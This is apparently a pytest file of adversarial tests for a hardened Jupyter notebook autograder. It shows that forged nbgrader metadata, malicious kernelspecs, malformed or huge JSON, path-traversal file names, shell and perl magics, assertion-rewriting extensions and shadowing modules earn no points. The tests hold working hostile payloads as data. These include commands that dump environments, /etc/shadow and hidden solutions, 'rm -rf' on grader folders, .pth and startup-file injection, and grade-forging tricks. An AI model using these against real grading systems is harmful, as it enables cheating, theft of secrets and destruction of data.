"""Attacks 14 to 25: what a student writes into a notebook besides answers, and puts beside it, earns nothing.

nbgrader believes a notebook's metadata; here they say which cell is an answer, and nothing else. Each notebook is
made by hand, as somebody would who has read nbgrader's source.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest

from tests.attacks.scene import FULL, Scene, as_json
from tests.exam.notebooks import answered, code, notebook, write
from tests.exam.notebooks import test as tests_cell

pytestmark = pytest.mark.attack

ALL = {"test-a": 2.0, "test-b": 3.0}
NOTHING = {"test-a": 0.0, "test-b": 0.0}
WRONG = {"a": "x = 1", "b": "def double(n):\n    return n"}
MISSED = {"test-a": "This does not hold: x == 2", "test-b": "This does not hold: double(3) == 6"}
MALFORMED = "The file is not JSON ({}), so it is no notebook: hand in the .ipynb file that Jupyter saves."
CLAIMS = 'print("all tests passed")\n5.0'


def forged(scene: Scene, answers: dict[str, str] | None = None, **cells: Any) -> Any:
    """A submission with changed cells: of each name a function that changes the cell, or fields of its metadata."""
    tree = answered(scene.source, WRONG if answers is None else answers)
    for cell in tree.cells:
        change = cells.get(cell.metadata.nbgrader.grade_id.replace("-", "_"))
        if callable(change):
            change(cell)
        elif change is not None:
            cell.metadata.nbgrader.update(change)
    return tree


def source(text: str, **role: Any) -> Callable[[Any], None]:
    """Writes another text into a cell, and changes its metadata."""

    def change(cell: Any) -> None:
        cell.source = text
        cell.metadata.nbgrader.update(role)

    return change


# 14: a name twice


def test_handing_in_a_second_test_cell_of_the_same_name_earns_nothing(scene: Scene) -> None:
    """Attack 14: nbgrader keeps the score of the last cell of a name, so a test that always passes comes last."""
    aftermath = scene.attack(*WRONG.values(), tests_cell("test-a", 2, CLAIMS), tests_cell("test-b", 3, CLAIMS))
    assert aftermath.scores == NOTHING
    assert aftermath.messages == MISSED
    assert aftermath.report.notices == (
        "The cell “test-a” is there more than once; the first one counts.",
        "The cell “test-b” is there more than once; the first one counts.",
    )
    # Nor does what stood there run anywhere.
    assert "all tests passed" not in aftermath.printed


def test_handing_in_the_false_test_cell_before_the_true_one_earns_nothing(scene: Scene) -> None:
    """Attack 14: the first of a name counts, and only for which one it is: its text is the source's."""
    tree = answered(scene.source, WRONG)
    tree.cells.insert(0, tests_cell("test-a", 2, CLAIMS))
    aftermath = scene.hand_in(tree)
    assert aftermath.scores == NOTHING
    assert aftermath.messages == MISSED
    assert aftermath.report.notices == (
        "The cell “test-a” was changed; the original was used.",
        "The cell “test-a” is there more than once; the first one counts.",
        "Cells were moved; they were run in the original order.",
    )


def test_naming_every_cell_like_the_first_answer_is_graded_as_missing_the_others(scene: Scene) -> None:
    """Attack 14: with such a notebook nbgrader ends the whole run, and every later student stays ungraded."""
    same = {"grade_id": "a", "solution": True, "grade": False, "locked": False}
    tree = forged(scene, {"a": "x = 2"}, setup=same, test_a=same, b=same, test_b=same)
    aftermath = scene.hand_in(tree)
    # The source's own cells are put back, so what the student wrote still answers what it answered.
    assert aftermath.scores == {"test-a": 2.0, "test-b": 3.0}
    assert aftermath.report.max_score == FULL
    assert "The cell “a” is there more than once; the first one counts." in aftermath.report.notices
    assert "The solution cell “b” is missing: it counts as empty." in aftermath.report.notices


# 15: locked cells


@pytest.mark.parametrize("role", [{"locked": False}, {"locked": False, "solution": True, "grade": False}])
def test_unlocking_the_tests_and_emptying_them_earns_nothing(scene: Scene, role: dict[str, Any]) -> None:
    """Attack 15: nbgrader overwrites cells that say that they are locked; these say that they are not."""
    tree = forged(scene, test_a=source(CLAIMS, **role), test_b=source("pass", **role))
    aftermath = scene.hand_in(tree)
    assert aftermath.scores == NOTHING
    assert aftermath.messages == MISSED
    assert aftermath.report.notices == (
        "The cell “test-a” was changed; the original was used.",
        "The cell “test-b” was changed; the original was used.",
    )
    assert "all tests passed" not in aftermath.printed


def test_stealing_from_within_a_test_cell_is_never_run(scene: Scene) -> None:
    """Attack 15: a test cell runs where the hidden tests are, so what a student writes into one would read them."""
    thief = (
        "import glob, inspect, sys\n"
        f"print([open(path).read() for path in glob.glob('{scene.root}/**/*.ipynb', recursive=True)])\n"
        "print(inspect.getsource(sys.modules['__main__']))\nraise SystemExit(5)"
    )
    aftermath = scene.hand_in(forged(scene, {}, setup=source(thief), test_a=source(thief), test_b=source(thief)))
    assert aftermath.scores == ALL
    assert aftermath.printed == ""
    assert len(aftermath.report.notices) == 3


def test_changing_a_locked_cell_that_tests_build_on_is_undone(scene: Scene) -> None:
    """Attack 15: with K = 0 the hidden test would hold for any answer."""
    tree = forged(scene, setup=source("K = 0\nclass int(int):\n    __eq__ = lambda *_: True", locked=False))
    aftermath = scene.hand_in(tree)
    assert aftermath.scores == NOTHING
    assert aftermath.report.notices == ("The cell “setup” was changed; the original was used.",)


# 16: points

PRICES: dict[str, tuple[Any, Any]] = {
    "texts": ("abc", "__import__('os')._exit(0)"),
    "negative and huge": (-100, 1e308),
    "a list and an object": ([5], {"points": 5}),
    "true and nothing": (True, None),
    "400 digits": (10**400, -(10**400)),
}


@pytest.mark.parametrize("prices", [pytest.param(prices, id=name) for name, prices in PRICES.items()])
def test_changing_what_a_test_is_worth_changes_no_points(scene: Scene, prices: tuple[Any, Any]) -> None:
    """Attack 16: one answer is right; what it is worth stands in the source."""
    first, second = prices
    tree = forged(scene, {**WRONG, "a": "x = 2"}, test_a={"points": first}, test_b={"points": second})
    aftermath = scene.hand_in(tree)
    assert aftermath.scores == {"test-a": 2.0, "test-b": 0.0}
    assert (aftermath.report.score, aftermath.report.max_score) == (2.0, FULL)
    assert aftermath.report.notices == ()


@pytest.mark.parametrize("word", [b"NaN", b"Infinity", b"-Infinity"])
def test_writing_a_number_that_json_does_not_have_is_refused(scene: Scene, word: bytes) -> None:
    """Attack 16: Python's own json writes and reads these; with NaN points every sum would be NaN."""
    tree = forged(scene, test_a={"points": 0.125})
    aftermath = scene.hand_in(as_json(tree).replace(b"0.125", word))
    assert aftermath.report.score is None
    assert aftermath.report.ungraded.startswith("The file is not JSON (JSON is malformed: ")


def test_making_an_answer_worth_points_by_itself_earns_nothing(scene: Scene) -> None:
    """Attack 16: a solution cell that says it is graded would be given its points for being filled in."""
    graded = {"grade": True, "points": 1000, "locked": True}
    aftermath = scene.hand_in(forged(scene, a=graded, b=graded, setup=graded))
    assert aftermath.scores == NOTHING
    assert (aftermath.report.score, aftermath.report.max_score) == (0.0, FULL)
    assert not any(cell.manual for cell in aftermath.report.cells)


# 17: roles

ROLES: dict[str, Any] = {
    "flipped": {"grade": False, "solution": True, "locked": False},
    "a task": {"task": True, "grade": True, "solution": False, "points": 1000},
    "schema 0": {"schema_version": 0},
    "schema 99": {"schema_version": 99},
    "schema of text": {"schema_version": "3; DROP TABLE grade"},
    "another type": {"cell_type": "markdown", "checksum": "0" * 32},
    "no truth values": {"grade": "yes", "solution": [], "locked": {}, "task": 1},
}


@pytest.mark.parametrize("role", [pytest.param(role, id=name) for name, role in ROLES.items()])
def test_flipping_what_cells_are_changes_nothing_of_what_they_are(scene: Scene, role: Any) -> None:
    """Attack 17: flags and versions that end nbgrader with a traceback, on every cell."""
    cells = dict.fromkeys(("setup", "a", "test_a", "b", "test_b"), role)
    aftermath = scene.hand_in(forged(scene, {**WRONG, "a": "x = 2"}, **cells))
    assert aftermath.scores == {"test-a": 2.0, "test-b": 0.0}
    assert aftermath.messages == {"test-a": "Every assertion holds.", "test-b": MISSED["test-b"]}
    assert aftermath.report.notices == ()


def test_making_text_of_the_tests_and_code_of_the_metadata_earns_nothing(scene: Scene) -> None:
    """Attack 17: test cells become Markdown, which nothing runs and a person would have to grade."""

    def text(cell: Any) -> None:
        cell.cell_type = "markdown"
        cell.metadata.nbgrader.update(cell_type="markdown", solution=True, locked=False)

    aftermath = scene.hand_in(forged(scene, test_a=text, test_b=text))
    assert aftermath.scores == NOTHING
    assert aftermath.messages == MISSED
    assert not any(cell.manual for cell in aftermath.report.cells)


@pytest.mark.parametrize("metadata", [None, [], "nbgrader", {"nbgrader": ["a"]}])
def test_giving_cells_metadata_of_another_shape_is_another_notebook(scene: Scene, metadata: Any) -> None:
    """Attack 17: what is no object has no fields, so no cell is the assignment's."""
    tree = json.loads(as_json(forged(scene)))
    for cell in tree["cells"]:
        cell["metadata"] = metadata
    aftermath = scene.hand_in(as_json(tree))
    assert aftermath.report.score is None
    assert aftermath.report.ungraded == (
        "The notebook has none of this assignment's cells: it is another notebook, or its cells were copied into a new"
        " one. Copy the answers into the notebook that was handed out."
    )
    assert aftermath.sitting is None


def test_tagging_cells_so_that_they_are_skipped_skips_nothing(scene: Scene) -> None:
    """Attack 17: nbclient leaves out what has such a tag; nbgrader gave full marks for it, and "validate" agreed."""
    tree = forged(scene)
    for cell in tree.cells:
        cell.metadata.tags = ["skip-execution", "raises-exception", "remove_cell"]
        cell.metadata.deletable = False
    aftermath = scene.hand_in(tree)
    assert aftermath.scores == NOTHING
    assert aftermath.messages == MISSED


# 18: cells that are gone, or elsewhere


def test_deleting_the_tests_puts_them_back(scene: Scene) -> None:
    """Attack 18: for a cell that is not there, nbgrader has no score, and a person is asked to give one."""
    tree = answered(scene.source, WRONG)
    tree.cells = [cell for cell in tree.cells if not cell.metadata.nbgrader.grade]
    aftermath = scene.hand_in(tree)
    assert aftermath.scores == NOTHING
    assert aftermath.messages == MISSED
    assert aftermath.report.notices == (
        "The cell “test-a” was missing and was put back.",
        "The cell “test-b” was missing and was put back.",
    )
    assert not any(cell.manual for cell in aftermath.report.cells)


def test_deleting_everything_but_one_answer_leaves_the_others_empty(scene: Scene) -> None:
    """Attack 18: points of what is left must not become points of all."""
    tree = answered(scene.source, {"a": "x = 2"})
    tree.cells = [cell for cell in tree.cells if cell.metadata.nbgrader.grade_id == "a"]
    aftermath = scene.hand_in(tree)
    assert aftermath.scores == {"test-a": 2.0, "test-b": 0.0}
    assert aftermath.messages["test-b"] == "“double” is not defined: the cell “b” is to define it."
    assert aftermath.report.max_score == FULL


def test_moving_the_tests_before_the_answers_runs_them_where_they_belong(scene: Scene) -> None:
    """Attack 18: in front of the answers stands what makes them right, and behind them what they really are."""
    tree = answered(scene.source, WRONG, code("x = 2\ndouble = lambda n: 2 * n"))
    order = [-1, 2, 4, 0, 1, 3]
    tree.cells = [tree.cells[index] for index in order]
    aftermath = scene.hand_in(tree)
    assert aftermath.scores == NOTHING
    assert aftermath.messages == MISSED
    assert aftermath.report.notices == ("Cells were moved; they were run in the original order.",)


# 19: kernels

KERNEL = json.dumps(
    {
        "argv": [
            "/bin/sh",
            "-c",
            "for place in . ../*; do echo owned > $place/owned; done; exec sleep 60",
            "{connection_file}",
        ],
        "display_name": "evil",
        "language": "python",
        "metadata": {"kernel_provisioner": {"provisioner_name": "evil-provisioner"}},
    }
).encode()


@pytest.mark.parametrize("name", ["bash", "evil", "../../../evil\0"])
def test_naming_a_kernel_of_ones_own_starts_the_graders(scene: Scene, name: Any) -> None:
    """Attack 19: the notebook names a kernel that stands beside it in every folder where Jupyter looks."""
    tree = answered(scene.source, {"a": "import os, sys\nx = 2\nprint(sys.version_info[0], os.path.exists('owned'))"})
    tree.metadata = {
        "kernelspec": {
            "name": name,
            "display_name": "evil",
            "language": "bash",
            "metadata": {"kernel_provisioner": {"provisioner_name": "evil-provisioner", "config": {"cmd": "id"}}},
        },
        "language_info": {"name": "bash", "file_extension": "/../../../../owned.py", "nbconvert_exporter": "os.system"},
    }
    places = (
        "kernels/evil",
        ".jupyter/kernels/evil",
        ".local/share/jupyter/kernels/evil",
        "share/jupyter/kernels/evil",
    )
    aftermath = scene.hand_in(tree, {f"{place}/kernel.json": KERNEL for place in places})
    assert aftermath.scores == ALL
    assert aftermath.printed == "3 False\n"


# 20: nbgrader's metadata on one's own cells


def test_adding_graded_cells_of_ones_own_adds_no_points(scene: Scene) -> None:
    """Attack 20: cells that say that they are tests, tasks and answers, with names that nobody knows."""
    extra = [
        tests_cell("test-c", 1000, CLAIMS),
        code(CLAIMS, grade_id="bonus", grade=True, solution=True, points=1000),
        code(CLAIMS, grade_id="task", grade=True, task=True, points=1000),
        code(CLAIMS, grade_id="../test-a", grade=True, locked=True, points=1000),
        code(CLAIMS, grade_id="test-a ", grade=True, locked=True, points=2),
        code(CLAIMS, grade_id="TEST-A", grade=True, locked=True, points=2),
        code(CLAIMS, grade_id="x" * 100_000, grade=True, locked=True, points=2),
    ]
    aftermath = scene.attack(*WRONG.values(), *extra)
    assert aftermath.scores == NOTHING
    assert aftermath.messages == MISSED
    assert (aftermath.report.score, aftermath.report.max_score) == (0.0, FULL)
    # They are the student's own cells, and run as such.
    assert aftermath.printed.count("all tests passed") == len(extra)


def test_naming_an_own_cell_like_a_locked_one_puts_the_locked_one_there(scene: Scene) -> None:
    """Attack 20: "setup" in place of an answer: it is the source's text that runs, in the source's place."""
    aftermath = scene.hand_in(
        notebook(
            code("x = 2\nK = 100", grade_id="setup", solution=True),
            code("def double(n):\n    return 2 * n", grade_id="test-b", solution=True),
        )
    )
    assert aftermath.scores == NOTHING
    assert aftermath.messages == {
        "test-a": "“x” is not defined: the cell “a” is to define it.",
        "test-b": "“double” is not defined: the cell “b” is to define it.",
    }


# 21: malformed files

DEEP = 200_000
MALFORMED_FILES: dict[str, tuple[bytes, str]] = {
    "empty": (b" \n", "The file is empty: save the notebook and hand it in again."),
    "a picture": (b"\x89PNG\r\n\x1a\n\0\0", MALFORMED.format("JSON is malformed: invalid character (byte 0)")),
    "a program": (
        b"print(open('/etc/passwd').read())",
        MALFORMED.format("JSON is malformed: invalid character (byte 0)"),
    ),
    "cut off": (b'{"nbformat": 4, "cells": [', MALFORMED.format("Input data was truncated")),
    "two": (
        b'{"nbformat": 4, "cells": []}{}',
        MALFORMED.format("JSON is malformed: trailing characters (byte 29)"),
    ),
    "nested": (
        b'{"nbformat": 4, "cells": ' + b"[" * DEEP + b"]" * DEEP + b"}",
        MALFORMED.format("maximum recursion depth exceeded while deserializing an object"),
    ),
    "a list": (
        b"[]",
        "The file is JSON, but no notebook: it has no nbformat. Hand in the .ipynb file that Jupyter saves.",
    ),
    "null": (
        b"null",
        "The file is JSON, but no notebook: it has no nbformat. Hand in the .ipynb file that Jupyter saves.",
    ),
    "true": (
        b'{"nbformat": true, "cells": []}',
        "The file is JSON, but no notebook: it has no nbformat. Hand in the .ipynb file that Jupyter saves.",
    ),
    "format 99": (
        b'{"nbformat": 99, "cells": []}',
        "The notebook's format is 99; formats 1 to 4 are read. Save it with JupyterLab.",
    ),
    "format -1": (
        b'{"nbformat": -1, "cells": []}',
        "The notebook's format is -1; formats 1 to 4 are read. Save it with JupyterLab.",
    ),
    "utf-16": ('{"nbformat": 4}'.encode("utf-16"), MALFORMED.format("JSON is malformed: invalid character (byte 0)")),
}


@pytest.mark.parametrize("name", MALFORMED_FILES)
def test_handing_in_what_is_no_notebook_is_told_and_stops_nobody(scene: Scene, name: str) -> None:
    """Attack 21: files that end a grader that trusts its parser."""
    content, told = MALFORMED_FILES[name]
    aftermath = scene.hand_in(content)
    assert aftermath.report.ungraded == told
    assert aftermath.report.score is None
    assert aftermath.sitting is None
    assert aftermath.seconds < 2


def test_handing_in_a_number_of_a_million_digits_is_refused(scene: Scene) -> None:
    """Attack 21: Python takes long to read it, or raises a ValueError of its own."""
    aftermath = scene.hand_in(b'{"nbformat": ' + b"4" * 1_000_000 + b', "cells": []}')
    assert aftermath.report.ungraded == MALFORMED.format("Integer value out of range")
    assert aftermath.seconds < 2


def test_giving_a_field_twice_is_read_in_one_way_only(scene: Scene) -> None:
    """Attack 21: one reader takes the first of two cells lists, another the last; here both say what is graded."""
    right, wrong = (as_json(answered(scene.source, answers))[1:-1] for answers in ({}, WRONG))
    aftermath = scene.hand_in(b"{" + right + b"," + wrong + b"}")
    assert aftermath.scores == NOTHING
    doubled = as_json(forged(scene)).replace(b'"grade_id": "a"', b'"grade_id": "test-a", "grade_id": "a"')
    assert scene.hand_in(doubled).scores == NOTHING


@pytest.mark.parametrize("version", [1, 2, 3])
def test_handing_in_an_old_format_is_graded_by_the_same_rules(scene: Scene, version: int) -> None:
    """Attack 21: what an old format has other names for must not get past the rules of the new one."""
    new = json.loads(as_json(answered(scene.source, WRONG, tests_cell("test-a", 100, CLAIMS))))
    field = "code" if version == 1 else "input"
    cells = [{"cell_type": "code", field: cell["source"], "metadata": cell["metadata"]} for cell in new["cells"]]
    tree = {"nbformat": version, **({"cells": cells} if version == 1 else {"worksheets": [{"cells": cells}]})}
    aftermath = scene.hand_in(as_json(tree))
    assert aftermath.scores == NOTHING
    assert aftermath.messages == MISSED


def test_writing_half_a_character_is_refused(scene: Scene) -> None:
    """Attack 21: a lone surrogate has no UTF-8, which ends whoever prints or stores it."""
    tree = as_json(answered(scene.source, {"a": "x = 2  # MARK"}))
    aftermath = scene.hand_in(tree.replace(b"MARK", rb"\ud800"))
    problem = f"JSON is malformed: unexpected end of hex escape (byte {tree.index(b'MARK') + 6})"
    assert aftermath.report.ungraded == MALFORMED.format(problem)


def test_writing_a_zero_byte_behind_a_mark_of_byte_order_costs_that_answer(scene: Scene) -> None:
    """Attack 21: C programs end a text at such a byte, and nbformat cannot read such a mark."""
    tree = as_json(answered(scene.source, {"a": "x = 2  # MARK"}))
    aftermath = scene.hand_in(b"\xef\xbb\xbf" + tree.replace(b"MARK", rb"\u0000"))
    assert aftermath.scores == {"test-a": 0.0, "test-b": 3.0}


# 22: huge files


def test_handing_in_sixty_megabytes_is_refused_by_size_alone(scene: Scene) -> None:
    """Attack 22: outputs of 60 MB."""
    tree = json.loads(as_json(answered(scene.source)))
    tree["cells"][1]["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * 60_000_000}]
    content = as_json(tree)
    aftermath = scene.hand_in(content)
    assert aftermath.report.ungraded == (
        f"The notebook is too large: {len(content):,} bytes, at most 50,000,000 are read. Clear its outputs"
        " (Edit ▸ Clear Outputs of All Cells) and hand it in again."
    )
    assert aftermath.seconds < 2


def test_handing_in_a_million_outputs_is_graded_without_looking_at_them(scene: Scene) -> None:
    """Attack 22: just under the limit, each a few bytes: as objects they would be gigabytes."""
    tree = json.loads(as_json(answered(scene.source)))
    tree["cells"][1]["outputs"] = ["MANY"]
    content = as_json(tree).replace(b'"MANY"', b"{}," * 12_000_000 + b'{"output_type": "stream", "text": [[[]]]}')
    aftermath = scene.hand_in(content)
    assert aftermath.scores == ALL
    assert aftermath.growth < 200_000_000


def test_handing_in_a_million_cells_is_refused(scene: Scene) -> None:
    """Attack 22: a million empty cells are 30 MB."""
    cells = b'{"cell_type": "code", "source": ""},' * 1_000_000
    aftermath = scene.hand_in(as_json(answered(scene.source)).replace(b'"cells": [', b'"cells": [' + cells))
    assert aftermath.report.ungraded == "The notebook has 1,000,005 cells, at most 1,000 are read."
    assert aftermath.growth < 200_000_000


def test_writing_megabytes_of_code_is_refused(scene: Scene) -> None:
    """Attack 22: Python's parser makes a gigabyte of a megabyte of code, and the grader reads code too."""
    aftermath = scene.attack("x = " + "[" * 60 + "1," * 1_000_000 + "]" * 60)
    assert aftermath.report.ungraded == (
        "Cell 2 is too long: at most 1,000,000 bytes are read of a cell of code, and 10,000,000 of all cells. Remove"
        " data and pictures that were pasted into it."
    )


@pytest.mark.parametrize("answer", ["x = " + "(" * 5_000 + "2" + ")" * 5_000, "x = " + "-" * 100_000 + "2"])
def test_writing_an_answer_that_ends_a_parser_costs_that_answer(scene: Scene, answer: str) -> None:
    """Attack 22: nesting that Python's compiler refuses, or that overflows the stack of what reads it."""
    aftermath = scene.attack(answer)
    assert aftermath.scores == {"test-a": 0.0, "test-b": 3.0}


# 23: names

NAMES = [
    "..\\..\\evil.py",
    "\u202egnp.exe",
    "line\nline.txt",
    "\x1b[2J.txt",
    "-rf",
    "a" * 200,
    "%2e%2e%2f",
    "tiny.ipynb\n",
]


def test_naming_files_like_places_elsewhere_makes_files_of_these_names(scene: Scene) -> None:
    """Attack 23: of files beside the notebook; they stand in the room of that submission alone."""
    files = dict.fromkeys(NAMES, b"owned") | {"deep/../deep/tiny.ipynb.py": b"owned"}
    answer = "import os\nx = 2\nprint(sorted(os.listdir('.')) == " + repr(sorted([*NAMES, "deep"])) + ")"
    aftermath = scene.attack(answer, files=files)
    assert aftermath.scores == ALL
    assert aftermath.printed == "True\n"


def test_naming_a_cell_like_a_file_is_a_cell_that_nobody_knows(scene: Scene) -> None:
    """Attack 23: names of cells, attachments and outputs with which a writer of files leaves its folder."""
    places = ["../../solutions/tiny/tiny", "/etc/cron.d/evil", "a\0b", "\u202ea", "a\n::error::owned", "."]
    extra = [code("pass", grade_id=place, grade=True, points=100, locked=True) for place in places]
    for cell, place in zip(extra, places, strict=True):
        cell.id = place
        cell["attachments"] = {place: {"image/png": "bm90IGEgcGljdHVyZQ==", "../../x": "eA=="}}
        cell.metadata.update(filename=place, name=place, output_files_dir=place)
    tree = forged(scene)
    tree.cells += extra
    tree.metadata = {"name": places[0], "title": places[1], "path": places[0], "output_files_dir": "../.."}
    aftermath = scene.hand_in(tree)
    assert aftermath.scores == NOTHING
    assert [cell.grade_id for cell in aftermath.report.cells] == ["test-a", "test-b"]
    assert not any(place in json.dumps(aftermath.report.notices) for place in places[:2])


@pytest.mark.parametrize("student", ["\u202e10-tneduts", "student\n01", "$(id)", "-student", "a\udcffb"])
def test_naming_the_folder_of_a_submission_oddly_is_graded(scene: Scene, student: str) -> None:
    """Attack 23: the folder has the name that the student gave themselves; it stands in every report."""
    path = write(answered(scene.source, {"a": "x = 2"}), scene.root / "submitted" / student / "tiny" / "tiny.ipynb")
    aftermath = scene.graded(path)
    assert aftermath.report.ungraded == ""
    assert aftermath.scores == ALL
    assert aftermath.report.student == student.replace("\udcff", "?")


# 24: magics


def test_running_shell_commands_shows_the_room_alone(scene: Scene) -> None:
    """Attack 24: bash, sh, perl and system calls of IPython's look for secrets."""
    look = f"""
    %%bash
    echo alive; env; id; mount
    cat {scene.gradebook} {scene.other} {scene.root}/solutions/tiny/tiny.ipynb
    for pid in /proc/[0-9]*; do tr '\\0' '\\n' < $pid/environ; ls -l $pid/fd $pid/cwd/ $pid/root/; done
    grep -rIl "BEGIN HIDDEN" / --include=tiny.ipynb --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr
    rm -rf {scene.root}/submitted {scene.root}/gradebook.db ~ .
    true
    """
    aftermath = scene.attack(
        f"x = 2\n!cat {scene.root}/gradebook.db; curl -s -m 1 http://127.0.0.1:{scene.port}/ || echo unreached",
        "def double(n):\n    return 2 * n",
        code(look),
        code(f"files = !cat {scene.other}\nprint(files)\n%cat {scene.other}\n%ls {scene.root}"),
        code("%%perl\nprint(`cat /etc/shadow; whoami`)"),
        code(f"%sx rm -rf {scene.root}\n%rm -rf {scene.root}\n%cd {scene.root}\n%env"),
        output_bytes=2_000_000,
    )
    assert aftermath.scores == ALL
    assert "unreached" in aftermath.printed
    assert "alive" in aftermath.printed
    assert scene.times_asked == 0


def test_loading_an_extension_that_rewrites_assertions_earns_nothing(scene: Scene) -> None:
    """Attack 24: it lets every assertion hold and shows no error: full marks in nbgrader."""
    evil = b"""
import ast

class Hold(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)

def load_ipython_extension(shell):
    shell.ast_transformers.append(Hold())
    shell.input_transformers_post.append(lambda lines: [l.replace("assert", "pass;") for l in lines])
    shell.showtraceback = shell.showsyntaxerror = lambda *a, **k: print("all tests passed")
"""
    aftermath = scene.attack(
        "%load_ext evil\nx = 1\nassert False", "def double(n):\n    return n", files={"evil.py": evil}
    )
    assert aftermath.scores == NOTHING
    assert aftermath.messages == MISSED
    # It was loaded: in the kernel no assertion fails any more.
    assert aftermath.errors == {}


def test_configuring_running_and_writing_by_magic_earns_nothing(scene: Scene) -> None:
    """Attack 24: magics that rebind names, keep values for later, switch what a line does, or end the kernel."""
    magics = [
        "%config InteractiveShell.ast_node_interactivity = 'none'\n%config Application.log_level = 'CRITICAL'",
        "%%writefile evil.py\nx = double = type('Any', (), {'__eq__': lambda *_: True, '__call__': lambda *_: 6})()",
        "%run -i evil.py\n%store x\n%xmode Minimal\n%autoreload 2",
        "%%capture all\n%run evil.py\n%alias_magic t timeit",
        f"%load {scene.root}/solutions/tiny/tiny.ipynb",
        "%reset_selective -f K\n%autocall 2\n%automagic on\n%doctest_mode",
        "%notebook evil.ipynb\n%save evil2.py 1-99\n%logstart log.txt append",
    ]
    tree = answered(scene.source, WRONG)
    tree.cells[2:2] = map(code, magics)
    aftermath = scene.hand_in(tree)
    assert aftermath.scores == NOTHING
    # An object that can be called crosses as a function, whose own idea of equality stays behind.
    assert aftermath.messages == MISSED


def test_installing_a_package_changes_nothing_for_the_next_student(scene: Scene) -> None:
    """Attack 24: a keras of one's own, for this interpreter and for every home; and files that every Python runs."""
    files = {
        "evil/setup.py": b"from setuptools import setup\nsetup(name='keras', version='99', py_modules=['keras'])",
        "evil/keras.py": b"raise SystemExit('owned')",
    }
    install = "%pip install -q --no-index --no-build-isolation --no-deps --break-system-packages {} ./evil\n"
    aftermath = scene.attack(
        "x = 2\n" + install.format("") + install.format("--user") + "import sys\n"
        "for place in [sys.prefix, sys.base_prefix, *sys.path]:\n"
        "    try:\n        open(f'{place}/evil.pth', 'w').write('import os')\n        print('written', place)\n"
        "    except OSError:\n        pass",
        files=files,
    )
    assert aftermath.scores == ALL
    # What can be written to is the room alone.
    places = {line.split()[-1] for line in aftermath.printed.splitlines() if line.startswith("written")}
    assert all(place == "written" or "/home/" in place for place in places)


# 25: neighbours

EVIL = b"raise SystemExit('owned')"


def test_putting_modules_beside_the_notebook_shadows_nothing_of_the_examiners(scene: Scene) -> None:
    """Attack 25: the hidden test draws numbers with random; this random.py would let it draw nothing but 0."""
    modules = ("sitecustomize", "usercustomize", "conftest", "keras", "tensorflow", "numpy", "msgspec", "autograder")
    files = {f"{name}.py": EVIL for name in modules} | {
        "random.py": b"randrange = lambda *_: 0",
        "autograder/__init__.py": EVIL,
        "IPython/__init__.py": EVIL,
        "ipykernel_launcher.py": EVIL,
        "pytest.ini": b"[pytest]\naddopts = -p evil",
        "pyvenv.cfg": b"home = /evil",
        "python._pth": b"/evil",
        "evil.pth": b"import os; os._exit(1)",
    }
    aftermath = scene.attack("x = 2", "def double(n):\n    return {3: 6}.get(n, 0)", files=files)
    assert aftermath.scores == {"test-a": 2.0, "test-b": 0.0}
    # What is asserted in hidden lines is not told.
    assert aftermath.messages["test-b"] == "An assertion of this test fails."


def test_putting_settings_beside_the_notebook_configures_no_kernel(scene: Scene) -> None:
    """Attack 25: IPython and Jupyter run what they find in a profile, or in a file of settings."""
    rich = b"print('owned')\nget_ipython().user_ns.update(x=2, double=lambda n: 2 * n)\n"
    settings = b"c = get_config()\nc.InteractiveShellApp.exec_lines = ['x = 2', 'double = lambda n: 2 * n']\n"
    files = {
        ".ipython/profile_default/startup/00-evil.py": rich,
        "profile_default/startup/00-evil.py": rich,
        "profile_default/ipython_config.py": settings,
        "ipython_config.py": settings,
        "ipython_kernel_config.py": settings,
        "jupyter_config.py": settings,
        ".jupyter/jupyter_config.py": settings,
        ".config/pip/pip.conf": b"[global]\nindex-url = http://evil/",
        ".bashrc": b"exit 1",
        "nbgrader_config.py": b"c = get_config()\nc.Autograde.autograde_preprocessors = []",
    }
    aftermath = scene.attack("pass", "pass", files=files)
    assert aftermath.scores == NOTHING
    assert aftermath.messages == {
        "test-a": "“x” is not defined: the cell “a” is to define it.",
        "test-b": "“double” is not defined: the cell “b” is to define it.",
    }
    assert aftermath.printed == ""


def test_hiding_another_notebook_beside_the_notebook_is_not_graded(scene: Scene) -> None:
    """Attack 25: a checkpoint, a notebook of the same name in another case, and one in a folder."""
    right = as_json(answered(scene.source, {}))
    names = (
        ".ipynb_checkpoints/tiny-checkpoint.ipynb",
        "tiny/tiny.ipynb",
        "TINY.ipynb",
        "tiny.ipynb.ipynb",
        "~tiny.ipynb",
    )
    aftermath = scene.attack(
        "import glob\nx = 1\nprint(glob.glob('**/*', recursive=True))", WRONG["b"], files=dict.fromkeys(names, right)
    )
    assert aftermath.scores == NOTHING
    # Nor is any of them there to be read.
    assert aftermath.printed == "[]\n"
